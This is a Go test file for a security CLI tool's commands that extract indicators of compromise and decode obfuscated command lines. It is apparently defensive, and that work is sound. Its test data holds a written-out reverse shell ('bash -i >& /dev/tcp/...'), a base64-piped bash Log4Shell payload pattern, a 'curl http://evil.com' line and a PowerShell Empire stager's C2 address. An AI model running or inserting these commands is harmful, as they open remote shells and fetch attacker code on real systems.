package cli

import (
	"compress/gzip"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func iocRows(t *testing.T, out string) []IoCRow {
	t.Helper()
	var rows []IoCRow
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("not a JSON array: %v\n%s", err, out)
	}
	return rows
}

func TestIoCJSON(t *testing.T) {
	in := "Jan 12 sshd: Failed password from 203.0.113.7 port 22\n" +
		"beacon hxxps://evil[.]com/gate.php every 60s\n" +
		"\n" +
		"ping 10.0.0.1 && ping 10.0.0.1; md5 d41d8cd98f00b204e9800998ecf8427e\n"
	out, errOut, code := run(t, in, "ioc", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	got := iocRows(t, out)
	want := []IoCRow{
		{Type: "ipv4", Value: "203.0.113.7", Line: 1},
		{Type: "url", Value: "https://evil.com/gate.php", Defanged: true, Line: 2},
		{Type: "dns", Value: "evil.com", Defanged: true, Line: 2},
		{Type: "ipv4", Value: "10.0.0.1", Line: 4},
		{Type: "md5_hash", Value: "d41d8cd98f00b204e9800998ecf8427e", Line: 4},
	}
	if len(got) != len(want) {
		t.Fatalf("got %+v\nwant %+v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("row %d: got %+v want %+v", i, got[i], want[i])
		}
	}
	// The contract's field names.
	if !strings.Contains(out, `"type": "ipv4"`) && !strings.Contains(out, `"type":"ipv4"`) || !strings.Contains(out, `"line":1`) {
		t.Errorf("JSON field names: %s", out)
	}
	// Nothing found: an empty array, and table output says so.
	out, _, _ = run(t, "nothing here\n", "ioc", "-o", "json")
	if strings.TrimSpace(out) != "[]" {
		t.Errorf("empty json: %q", out)
	}
	_, errOut, code = run(t, "nothing here\n", "ioc")
	if code != 0 || !strings.Contains(errOut, "no indicators found") {
		t.Errorf("empty table: %d %q", code, errOut)
	}
}

func TestIoCFlags(t *testing.T) {
	in := `run C:\Windows\Temp\x.exe from 10.0.0.5 and 8.8.8.8, update.microsoft.com, evil.com` + "\n"
	out, _, _ := run(t, in, "ioc", "-o", "jsonl", "--paths", "--ignore-private", "--allow", "microsoft.com")
	var vals []string
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var r IoCRow
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatalf("jsonl line %q: %v", l, err)
		}
		vals = append(vals, string(r.Type)+" "+r.Value)
	}
	if got := strings.Join(vals, "|"); got != `windows_path C:\Windows\Temp\x.exe|ipv4 8.8.8.8|dns evil.com` {
		t.Errorf("got %s", got)
	}
	out, _, _ = run(t, in, "ioc", "-o", "csv", "--types", "ipv4")
	if out != "type,value,defanged,line,decoded\nipv4,10.0.0.5,false,1,false\nipv4,8.8.8.8,false,1,false\n" {
		t.Errorf("csv: %q", out)
	}
	out, _, _ = run(t, "10.0.0.1\n10.0.0.1\nevil.com 10.0.0.1\n", "ioc", "-u", "-o", "json")
	rows := iocRows(t, out)
	if len(rows) != 2 || rows[0].Value != "10.0.0.1" || rows[0].Count != 3 || rows[0].Line != 1 || rows[1].Count != 1 {
		t.Errorf("unique: %+v", rows)
	}
	// The table escapes control characters in values.
	out, _, _ = run(t, "http://evil.com/\x1b]52;c;QUJD\x07x\n", "ioc")
	if strings.ContainsAny(out, "\x1b\x07") {
		t.Errorf("raw control bytes in the table: %q", out)
	}
	for _, bad := range [][]string{
		{"ioc", "--types", "ipv5"},
		{"ioc", "--column", "x"},
		{"ioc", "--input", "x.csv"},
		{"ioc", "a", "b"},
		{"ioc", "no-such-file.txt"},
	} {
		if _, errOut, code := run(t, "", bad...); code == 0 {
			t.Errorf("%v: exit 0 (%s)", bad, errOut)
		}
	}
}

func TestIoCInputColumns(t *testing.T) {
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "events.csv")
	os.WriteFile(csvPath, []byte("Computer,CommandLine\nWIN1,\"curl http://evil.com/a\"\nWIN2,\"ping 10.0.0.1\"\n"), 0o600)
	out, errOut, code := run(t, "", "ioc", "--input", csvPath, "--column", "CommandLine", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	rows := iocRows(t, out)
	if len(rows) != 3 || rows[0].Value != "http://evil.com/a" || rows[0].Line != 0 || rows[2].Value != "10.0.0.1" || rows[2].Line != 1 {
		t.Errorf("csv rows: %+v", rows)
	}
	jsonPath := filepath.Join(dir, "events.jsonl")
	os.WriteFile(jsonPath, []byte(`{"CommandLine":"nslookup bad.org"}`+"\n"+`{"CommandLine":null}`+"\n"+`{"Other":"1.1.1.1"}`+"\n"), 0o600)
	out, _, _ = run(t, "", "ioc", "--input", jsonPath, "--column", "CommandLine", "-o", "json")
	rows = iocRows(t, out)
	if len(rows) != 1 || rows[0].Value != "bad.org" {
		t.Errorf("jsonl rows: %+v", rows)
	}
	_, errOut, code = run(t, "", "ioc", "--input", csvPath, "--column", "Nope")
	if code != 2 || !strings.Contains(errOut, `"Nope"`) || !strings.Contains(errOut, "CommandLine") {
		t.Errorf("missing column: %d %s", code, errOut)
	}
}

// demoLine returns the first line of a demo source file that matches re.
func demoLine(t *testing.T, file string, re *regexp.Regexp) string {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "testdata", "demo", "sources", file))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	m := re.Find(b)
	if m == nil {
		t.Fatalf("%s: nothing matches %s", file, re)
	}
	return string(m)
}

// The Log4Shell exploitation in the demo's auditd data runs
// bash -c {echo,<base64>}|{base64,-d}|{bash,-i}: decoding finds the reverse
// shell and its address.
func TestDecodeLog4ShellFromDemo(t *testing.T) {
	line := demoLine(t, "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json.gz",
		regexp.MustCompile(`bash -c [^|]*\|\{base64,-d\}\|\{bash,-i\}`))
	out, errOut, code := run(t, line, "decode", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var res DecodeOutput
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Items) != 1 || res.Items[0].Encoding != "base64>utf-8" || res.Items[0].Decoded != "bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n" {
		t.Fatalf("items: %+v", res.Items)
	}
	if !strings.Contains(res.Decoded, "<decoded type='string' name='[None]' index='1' depth='1'>bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n</decoded>") {
		t.Errorf("decoded string: %q", res.Decoded)
	}
	out, _, _ = run(t, line, "ioc", "--decode", "-o", "json")
	rows := iocRows(t, out)
	if len(rows) != 1 || rows[0] != (IoCRow{Type: "ipv4", Value: "192.168.2.6", Line: 1, Decoded: true}) {
		t.Errorf("ioc --decode: %+v", rows)
	}
}

// The Mordor Log4Shell Windows data holds a PowerShell Empire stager run with
// -Enc: UTF-16LE PowerShell that itself decodes its C2 address from base64.
func TestDecodeEmpireStagerFromDemo(t *testing.T) {
	line := demoLine(t, "securityauditing_log4shell_cve2021_44228_java_serialized_object_2022-05-13045400.json.gz",
		regexp.MustCompile(`-Enc [A-Za-z0-9+/=]+`))
	out, errOut, code := run(t, line, "decode", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var res DecodeOutput
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Items) != 2 {
		t.Fatalf("want 2 items, got %+v", res.Items)
	}
	outer, inner := res.Items[0], res.Items[1]
	if outer.Reference != "1" || outer.Depth != 1 || outer.Encoding != "base64>utf-16le" || !strings.HasPrefix(outer.Decoded, "If($PSVersionTable.PSVersion.Major -ge 3)") {
		t.Errorf("outer: %+v", outer)
	}
	if inner.Reference != "1.1" || inner.Depth != 2 || inner.Encoding != "base64>utf-16le>base64>utf-16le" || inner.Decoded != "http://192.168.3.5:443" {
		t.Errorf("inner: %+v", inner)
	}
	if len(outer.SHA256) != 64 || len(outer.MD5) != 32 || len(outer.SHA1) != 40 || outer.Size != 2*len([]rune(outer.Decoded)) {
		t.Errorf("outer hashes/size: %+v", outer)
	}
	out, _, _ = run(t, line, "ioc", "--decode", "-u", "-o", "json")
	var vals []string
	for _, r := range iocRows(t, out) {
		vals = append(vals, string(r.Type)+" "+r.Value)
	}
	if got := strings.Join(vals, "|"); got != "url http://192.168.3.5:443|ipv4 192.168.3.5" {
		t.Errorf("ioc --decode: %s", got)
	}
	// Text output: the tagged string, nested tags included.
	out, _, _ = run(t, line, "decode")
	if !strings.Contains(out, "index='1.1' depth='2'>http://192.168.3.5:443</decoded>") {
		t.Errorf("text output: %.300q", out)
	}
	out, _, _ = run(t, line, "decode", "-o", "csv")
	if !strings.HasPrefix(out, "reference,depth,encoding,file_name,file_type,size,md5,sha1,sha256,decoded\n1,1,base64>utf-16le,") {
		t.Errorf("csv output: %.200q", out)
	}
}
